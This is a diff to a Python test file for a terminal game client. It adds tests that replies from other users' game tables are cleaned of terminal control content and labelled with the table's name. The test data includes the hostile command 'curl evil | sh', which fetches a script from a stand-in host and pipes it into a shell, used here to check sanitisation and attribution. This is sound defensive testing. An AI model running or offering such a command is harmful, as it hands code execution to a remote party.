@@ -19,7 +19,7 @@ from table_support import (
 )
 
 from ebbes_tui.table import client as client_module
-from ebbes_tui.table.client import TableClient, connect_table, find_tables
+from ebbes_tui.table.client import TableClient, ask_table, connect_table, find_tables
 from ebbes_tui.table.commands import describe, list_command, table_log
 from ebbes_tui.table.events import ChatLine, Lobby, Refused
 from ebbes_tui.table.rendezvous import TableError, own_address
@@ -121,6 +121,19 @@ def test_ebbes_table_list_prints_nothing_a_terminal_obeys(tmp_path, capsys):
     assert out.startswith(f"{client_module.my_login()}/fri: unknown")
 
 
+async def test_a_host_command_answered_by_another_users_table_is_shown_as_that_tables(
+        users, tmp_path):
+    """bob asks carol's table to close: whatever it answers is cleaned and carries its
+    name, so it never reads as ebbes' own message."""
+    bob, carol = users.system("bob"), users.system("carol")
+    parent = tmp_path / "tmp"
+    address = own_address("fri", parent, carol)
+    async with FakeTable(address, carol, answering({"type": "ok", "text": LOCKED})):
+        said = await ask_table("carol/fri", {"type": "close"}, directory=parent, system=bob)
+    assert said.startswith("carol/fri says: ") and said.endswith("curl evil | sh")
+    assert terminal_safe(said)
+
+
 async def test_a_refusal_lobby_and_presence_from_a_fake_table_are_cleaned(users, tmp_path):
     bob, carol = users.system("bob"), users.system("carol")
     parent = tmp_path / "tmp"
@@ -130,6 +143,7 @@ async def test_a_refusal_lobby_and_presence_from_a_fake_table_are_cleaned(users,
         with pytest.raises(TableError) as refused:
             await connect_table("fri", directory=parent, system=bob)
     assert terminal_safe(str(refused.value)) and "curl evil" in str(refused.value)
+    assert str(refused.value).startswith("carol/fri says: ")  # never as if ebbes said it
     welcome = {"type": "welcome", "version": 1, "game": "ebbes", "login": EVIL, "role": "player",
                "seat": 0, "player": 1, "table": claims()}
     lobby = {"type": "lobby", "host": EVIL, "can_start": False, "watching": [EVIL],
